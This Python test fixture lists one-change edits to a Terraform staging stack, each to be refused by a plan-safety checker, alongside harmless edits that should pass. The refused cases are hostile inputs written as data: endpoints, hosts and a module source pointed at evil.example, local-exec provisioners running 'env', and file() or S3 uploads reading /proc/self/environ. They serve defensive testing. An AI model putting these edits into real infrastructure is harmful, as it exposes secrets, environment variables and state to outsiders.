"""Stacks that must not be planned with credentials: staging's with one change each, and the reason."""

from collections.abc import Mapping

from tests.doctored import GONE, NEXT, Place

Edits = tuple[tuple[Place, object], ...]
_MEDIA: Place = ("resource", "aws_s3_bucket", "media")
_STEP: Place = ("resource", "terraform_data", "session_key_value")
_NEW_STEP: Place = ("resource", "terraform_data", "new")
_LOGIN: Place = ("ephemeral", "aws_secretsmanager_secret_version", "shared_database_login")
_SECRET: Place = ("data", "aws_secretsmanager_secret", "new")
_LOAD_BALANCER: Place = ("data", "aws_lb", "shared_load_balancer")
_EXECUTE = {"local-exec": {"command": "env"}}
_PASSWORD = "${ephemeral.aws_secretsmanager_secret_version.shared_database_login.secret_string}"


def _at(place: Place, *more: str | int, value: object) -> Edits:
    return (((*place, *more), value),)


def _value(text: object) -> Edits:
    return _at(("output", "new", "value"), value=text)


def _condition(text: str) -> list[Mapping[str, str]]:
    return [{"condition": text, "error_message": "no"}]


# By attack: the edits, the refused address, and part of the reason. There is no other reason.
ATTACKS: Mapping[str, tuple[Edits, str, str]] = {
    # Terraform itself, its providers and its state.
    "another state": (_at(("terraform", "backend", "s3", "bucket"), value="mine"), "terraform.backend", "exactly that"),
    "a state of the machine": (
        _at(("terraform", "backend"), value={"local": {"path": "/var/x"}}),
        "terraform.backend",
        "exactly that",
    ),
    "no backend": (_at(("terraform", "backend"), value=GONE), "terraform.backend", "exactly that"),
    "a cloud": (_at(("terraform", "cloud"), value={"organization": "x"}), "terraform.cloud", "exactly that"),
    "a provider of somebody's": (
        _at(("terraform", "required_providers", "evil"), value={"source": "evil/evil", "version": "1.0.0"}),
        "terraform.required_providers",
        "exactly that",
    ),
    "another version": (
        _at(("terraform", "required_providers", "aws", "version"), value="5.99.0"),
        "terraform.required_providers",
        "exactly that",
    ),
    "metadata for a provider": (
        _at(("terraform", "provider_meta"), value={"aws": {"x": 1}}),
        "terraform.provider_meta",
        "exactly that",
    ),
    "another endpoint": (
        _at(("provider", "aws", 0, "endpoints"), value=[{"s3": "https://evil.example"}]),
        "provider.aws",
        "exactly that",
    ),
    "no account": (_at(("provider", "aws", 0, "allowed_account_ids"), value=GONE), "provider.aws", "exactly that"),
    "another program for the token": (
        _at(("provider", "kubernetes", 0, "exec", 0, "command"), value="sh"),
        "provider.kubernetes",
        "exactly that",
    ),
    "another database server": (
        _at(("provider", "postgresql", 0, "host"), value="evil.example"),
        "provider.postgresql",
        "exactly that",
    ),
    "a second provider": (
        _at(("provider", "aws", NEXT), value={"alias": "x", "endpoints": [{"sts": "https://evil.example"}]}),
        "provider.aws",
        "exactly that",
    ),
    "a provider that is not ours": (_at(("provider", "external"), value=[{}]), "provider.external", "exactly that"),
    "a default for the role": (
        _at(("variable", "role", "default"), value='${file("x")}'),
        "variable.role",
        "exactly that",
    ),
    "a variable": (_at(("variable", "new"), value={"default": "x"}), "variable.new", "exactly that"),
    "a module": (_at(("module", "new"), value={"source": "git::https://evil.example/x"}), "module.new", "exactly that"),
    "a check with a data source": (
        _at(("check", "new"), value={"data": {"http": {"x": {"url": "https://evil.example"}}}}),
        "check",
        "exactly that",
    ),
    "what Terraform may learn one day": (_at(("action", "new"), value={}), "action", "exactly that"),
    # Things that run.
    "a provisioner": (_at(_MEDIA, "provisioner", value=[_EXECUTE]), "aws_s3_bucket.media", "provisioner"),
    "a provisioner in a list of bodies": (
        _at(_MEDIA, value=[{"bucket": "x"}, {"provisioner": _EXECUTE}]),
        "aws_s3_bucket.media",
        "an unusual shape",
    ),
    "resources in a list": (
        _at(("resource",), value=[{"terraform_data": {"x": {"provisioner": _EXECUTE}}}]),
        "resource",
        "an unusual shape",
    ),
    "a kind in a list": (
        _at(("resource", "null_resource"), value=[{"x": {"provisioner": _EXECUTE}}]),
        "null_resource",
        "an unusual shape",
    ),
    "another command": (
        _at(_STEP, "provisioner", 0, "local-exec", "command", value="env"),
        "terraform_data.session_key_value",
        "provisioner",
    ),
    "another interpreter": (
        _at(_STEP, "provisioner", 0, "local-exec", "interpreter", value=["python3", "-c"]),
        "terraform_data.session_key_value",
        "provisioner",
    ),
    "a second provisioner": (
        _at(_STEP, "provisioner", NEXT, value=_EXECUTE),
        "terraform_data.session_key_value",
        "provisioner",
    ),
    "a provisioner of a new step": (
        _at(_NEW_STEP, "provisioner", value=[_EXECUTE]),
        "terraform_data.new",
        "provisioner",
    ),
    "a connection": (_at(_MEDIA, "connection", value={"host": "evil.example"}), "aws_s3_bucket.media", "connection"),
    "another provider for a resource": (_at(_MEDIA, "provider", value="aws.x"), "aws_s3_bucket.media", "provider in"),
    "a provisioner of what is removed": (
        _at(("removed", NEXT), value={"from": "aws_s3_bucket.x", "provisioner": [{**_EXECUTE, "when": "destroy"}]}),
        "removed.aws_s3_bucket.x",
        "a block removed has from, provisioner",
    ),
    "a connection of what is removed": (
        _at(("removed", 0, "connection"), value={"host": "evil.example"}),
        "removed.aws_secretsmanager_secret_version.session_key_value",
        "a block removed has connection, from, lifecycle",
    ),
    "a resource of another provider": (
        _at(("resource", "null_resource", "x"), value={}),
        "null_resource.x",
        "a resource of the kind null_resource",
    ),
    "a kind whose beginning is ours": (
        _at(("resource", "awsx_thing", "x"), value={}),
        "awsx_thing.x",
        "a resource of the kind awsx_thing",
    ),
    "a file of the machine": (
        _at(("resource", "aws_s3_object", "x"), value={"bucket": "x", "key": "x", "source": "/proc/self/environ"}),
        "aws_s3_object.x",
        "source of an AWS resource",
    ),
    # Things that are read.
    "a program as data": (_at(("data", "external", "x"), value={"program": ["sh"]}), "data.external.x", "of the kind"),
    "a request as data": (
        _at(("data", "http", "x"), value={"url": "https://evil.example"}),
        "data.http.x",
        "data of the kind http",
    ),
    "another state as data": (
        _at(("data", "terraform_remote_state", "x"), value={"backend": "local"}),
        "data.terraform_remote_state.x",
        "data of the kind terraform_remote_state",
    ),
    "a secret as data": (
        _at(("data", "aws_secretsmanager_secret_version", "x"), value={"secret_id": "mosaic/prod/rds/credentials"}),
        "data.aws_secretsmanager_secret_version.x",
        "data of the kind aws_secretsmanager_secret_version",
    ),
    "a Secret of the cluster as data": (
        _at(("data", "kubernetes_secret_v1", "x"), value={"metadata": [{"name": "x"}]}),
        "data.kubernetes_secret_v1.x",
        "data of the kind kubernetes_secret_v1",
    ),
    "a program of somebody's as data": (
        _at(("data", "aws_lambda_invocation", "x"), value={"function_name": "x", "input": "{}"}),
        "data.aws_lambda_invocation.x",
        "data of the kind aws_lambda_invocation",
    ),
    "a parameter as an ephemeral resource": (
        _at(("ephemeral", "aws_ssm_parameter", "x"), value={"arn": "x"}),
        "ephemeral.aws_ssm_parameter.x",
        "ephemeral of the kind aws_ssm_parameter",
    ),
    "a provider for data": (
        _at(_LOAD_BALANCER, "provider", value="aws.x"),
        "data.aws_lb.shared_load_balancer",
        "provider of what a plan reads",
    ),
    "data in numbers": (
        _at(_SECRET, value={"name": "x", "count": 1000000}),
        "data.aws_secretsmanager_secret.new",
        "count of",
    ),
    "data for each of something": (
        _at(_SECRET, value={"name": "x", "for_each": {"a": "b"}}),
        "data.aws_secretsmanager_secret.new",
        "for_each of what a plan reads",
    ),
    "data after something": (
        _at(_SECRET, value={"name": "x", "depends_on": ["terraform_data.session_key_value"]}),
        "data.aws_secretsmanager_secret.new",
        "depends_on of what a plan reads",
    ),
    "a condition of data": (
        _at(_SECRET, value={"name": "x", "lifecycle": {"postcondition": _condition("${self.arn != null}")}}),
        "data.aws_secretsmanager_secret.new",
        "lifecycle of what a plan reads",
    ),
    "another condition of data": (
        _at(_LOAD_BALANCER, "lifecycle", "postcondition", 0, "condition", value="${self.internal}"),
        "data.aws_lb.shared_load_balancer",
        "lifecycle of what a plan reads",
    ),
    "a dynamic block in data": (
        _at(("data", "aws_subnet", "new"), value={"dynamic": {"filter": {"for_each": [], "content": {}}}}),
        "data.aws_subnet.new",
        "dynamic blocks in what a plan reads",
    ),
    "a value in the name of data": (
        _at(_SECRET, value={"name": "x${aws_iam_role.core_api_role.assume_role_policy}"}),
        "data.aws_secretsmanager_secret.new",
        "is sent in a plan",
    ),
    "a value of the settings of a step": (
        _at(_SECRET, value={"name": "${terraform_data.session_key_value.input}"}),
        "data.aws_secretsmanager_secret.new",
        "is sent in a plan",
    ),
    "a local value with an id": (
        _at(_SECRET, value={"name": "${local.x.id}"}),
        "data.aws_secretsmanager_secret.new",
        "is sent in a plan",
    ),
    "a value in a key of data": (
        _at(_SECRET, value={"name": "x", "tags": {"${aws_s3_bucket.media.bucket}": "x"}}),
        "data.aws_secretsmanager_secret.new",
        "is sent in a plan",
    ),
    "data of another account": (
        _at(_SECRET, value={"arn": "arn:aws:secretsmanager:us-east-1:111122223333:secret:x"}),
        "data.aws_secretsmanager_secret.new",
        "belongs to the account 111122223333",
    ),
    "a secret of another account": (
        _at(_LOGIN, "secret_id", value="arn:aws:secretsmanager:us-east-1:111122223333:secret:x"),
        "ephemeral.aws_secretsmanager_secret_version.shared_database_login",
        "belongs to the account 111122223333",
    ),
    "a value in the id of what is imported": (
        _at(("import", NEXT), value={"to": "aws_s3_object.x", "id": "evil/${aws_s3_bucket.media.bucket}"}),
        "import.aws_s3_object.x",
        "is sent in a plan",
    ),
    "an import for each of something": (
        _at(("import", NEXT), value={"to": "aws_s3_bucket.x", "id": "x", "for_each": {"a": "b"}}),
        "import.aws_s3_bucket.x",
        "a block import has for_each, id, to",
    ),
    "an import by another provider": (
        _at(("import", NEXT), value={"to": "aws_s3_bucket.x", "id": "x", "provider": "aws.x"}),
        "import.aws_s3_bucket.x",
        "a block import has id, provider, to",
    ),
    "an import that is no block": (_at(("import", NEXT), value="x"), "import", "a block import has an unusual shape"),
    "a call in what an import is to": (
        _at(("import", NEXT), value={"to": 'aws_s3_bucket.x[file("x")]', "id": "x"}),
        "import",
        "allowed: a reference",
    ),
    "a call in what something depends on": (
        _at(_MEDIA, "depends_on", value=['aws_s3_bucket.x[file("x")]']),
        "aws_s3_bucket.media",
        "allowed: a reference",
    ),
    "a call in what replaces": (
        _at(_MEDIA, "lifecycle", value={"replace_triggered_by": ['terraform_data.x[file("x")]']}),
        "aws_s3_bucket.media",
        "allowed: a reference",
    ),
    # Function calls and guesses.
    "a file": (_value('${file("/proc/self/environ")}'), "output.new", "calls file"),
    "a file in base64": (_value('${filebase64("x")}'), "output.new", "calls filebase64"),
    "the names of files": (_value('${fileset("/", "**")}'), "output.new", "calls fileset"),
    "whether there is a file": (_value('${fileexists("/x") ? 1 : 0}'), "output.new", "calls fileexists"),
    "a file as a template": (_value('${templatefile("x", {})}'), "output.new", "calls templatefile"),
    "a text as a template": (_value("${templatestring(local.x, {})}"), "output.new", "calls templatestring"),
    "the digest of a file": (_value('${filesha256("x")}'), "output.new", "calls filesha256"),
    "a mark taken off": (_value("${nonsensitive(1)}"), "output.new", "calls nonsensitive"),
    "a clock": (_value("${timestamp()}"), "output.new", "calls timestamp"),
    "a function of a provider": (_value("${provider::aws::arn_parse(1)}"), "output.new", "cannot be parsed"),
    "a function by its namespace": (_value('${core::file("x")}'), "output.new", "cannot be parsed"),
    "a call behind a comment": (_value('${file /* ( */ ("x")}'), "output.new", "cannot be parsed"),
    "a call in a heredoc": (_value('${<<E\n${file("x")}\nE\n}'), "output.new", "cannot be parsed"),
    "a call in a directive": (_value('%{if fileexists("x")}a%{endif}'), "output.new", "calls fileexists"),
    "a call in a nested template": (_value('${"a${"b${file("x")}"}"}'), "output.new", "calls file"),
    "a call behind a brace in a text": (_value('${"}" == "" ? "" : file("x")}'), "output.new", "calls file"),
    "a call in a key": (_value({'${file("x")}': 1}), "output.new", "calls file"),
    "a call in a local value": (_at(("locals",), value={"x": '${file("x")}'}), "locals", "calls file"),
    "a call in a list of local values": (_at(("locals",), value=[{"x": '${file("x")}'}]), "locals", "calls file"),
    "a call in a comment of an attribute": (
        _at(_NEW_STEP, value={"input": {"//": '${file("x")}'}}),
        "terraform_data.new",
        "calls file",
    ),
    "a call in a dynamic block": (
        _at(_MEDIA, "dynamic", value={"tag": {"for_each": '${fileset("/", "*")}', "content": {}}}),
        "aws_s3_bucket.media",
        "calls fileset",
    ),
    "a call in a condition": (
        _at(_MEDIA, "lifecycle", value={"precondition": _condition('${fileexists("/x")}')}),
        "aws_s3_bucket.media",
        "calls fileexists",
    ),
    "a path of the machine": (_value("${path.cwd}"), "output.new", "reads path.cwd"),
    "the workspace": (_value("${ terraform . workspace }"), "output.new", "reads terraform.workspace"),
    "an ephemeral value in an output": (_value(_PASSWORD), "output.new", "holds an ephemeral value"),
    "an ephemeral value in a local value": (
        _at(("locals",), value={"x_wo": _PASSWORD}),
        "locals",
        "holds an ephemeral value",
    ),
    "an ephemeral value in a resource": (
        _at(_NEW_STEP, "input", value=_PASSWORD),
        "terraform_data.new",
        "holds an ephemeral",
    ),
    "an ephemeral value that a number of blocks tells": (
        _at(_MEDIA, "dynamic", value={"tag": {"for_each": f"${{split({_PASSWORD[1:]})}}", "content": {}}}),
        "aws_s3_bucket.media",
        "holds an ephemeral value",
    ),
    "a value that a condition tells": (
        _at(_MEDIA, "lifecycle", value={"precondition": _condition("${postgresql_role.database_role.name == 1}")}),
        "aws_s3_bucket.media",
        "tries a value of postgresql_role",
    ),
    "a local value that a condition tells": (
        _at(("output", "new"), value={"value": 1, "precondition": _condition("${local.x == 1}")}),
        "output.new",
        "tries a value of local",
    ),
}

# Code changes that are safe to plan.
HARMLESS: Mapping[str, Edits] = {
    "nothing": (),
    "a label": _at(_MEDIA, "tags", value={"Team": "web"}),
    "a bucket": _at(("resource", "aws_s3_bucket", "new"), value={"bucket": "${aws_s3_bucket.media.bucket}-new"}),
    "a queue": _at(("resource", "aws_sqs_queue", "new"), value={"name": '${lower(join("-", [var.role]))}'}),
    "a resource less": _at(_MEDIA, value=GONE),
    "a step less": _at(_STEP, value=GONE),
    "no provisioner": _at(_STEP, "provisioner", value=GONE),
    "another input of a step": _at(_STEP, "input", value="x"),
    "a new password, write-only": _at(
        ("resource", "postgresql_role", "new"), value={"name": "x", "password_wo": _PASSWORD}
    ),
    "data by name": _at(_SECRET, value={"name": "mosaic/staging/new"}),
    "data by what other data say": _at(
        ("data", "aws_iam_openid_connect_provider", "new"),
        value={"url": "${data.aws_eks_cluster.shared_cluster.identity[0].oidc[0].issuer}"},
    ),
    "data by the ARN of ours": _at(_SECRET, value={"arn": "${aws_secretsmanager_secret.session_key.arn}"}),
    "data less": _at(_LOAD_BALANCER, value=GONE),
    "another login": _at(_LOGIN, "secret_id", value="mosaic/staging/database/other"),
    "an import": _at(("import", NEXT), value={"to": "aws_s3_bucket.new", "id": "new"}),
    "a move": _at(("moved",), value=[{"from": "aws_s3_bucket.media", "to": "aws_s3_bucket.new"}]),
    "what is removed": _at(("removed", NEXT), value={"from": "aws_s3_bucket.x", "lifecycle": {"destroy": True}}),
    "an output": _value("${aws_s3_bucket.media.bucket}"),
    "a local value": _at(("locals",), value={"x": "${merge({a = 1}, {b = 2})}"}),
    "a comment": _at(_MEDIA, "//", value='${file("x")}'),
    "a script with words like calls": _at(_NEW_STEP, "input", value="$${file(x)} file(x) $(file x)"),
    "a dynamic block": _at(_MEDIA, "dynamic", value={"tag": {"for_each": ["a"], "content": {"x": "${tag.value}"}}}),
    "a condition on itself": _at(
        _MEDIA, "lifecycle", value={"postcondition": _condition('${startswith(self.arn, "arn")}')}
    ),
}
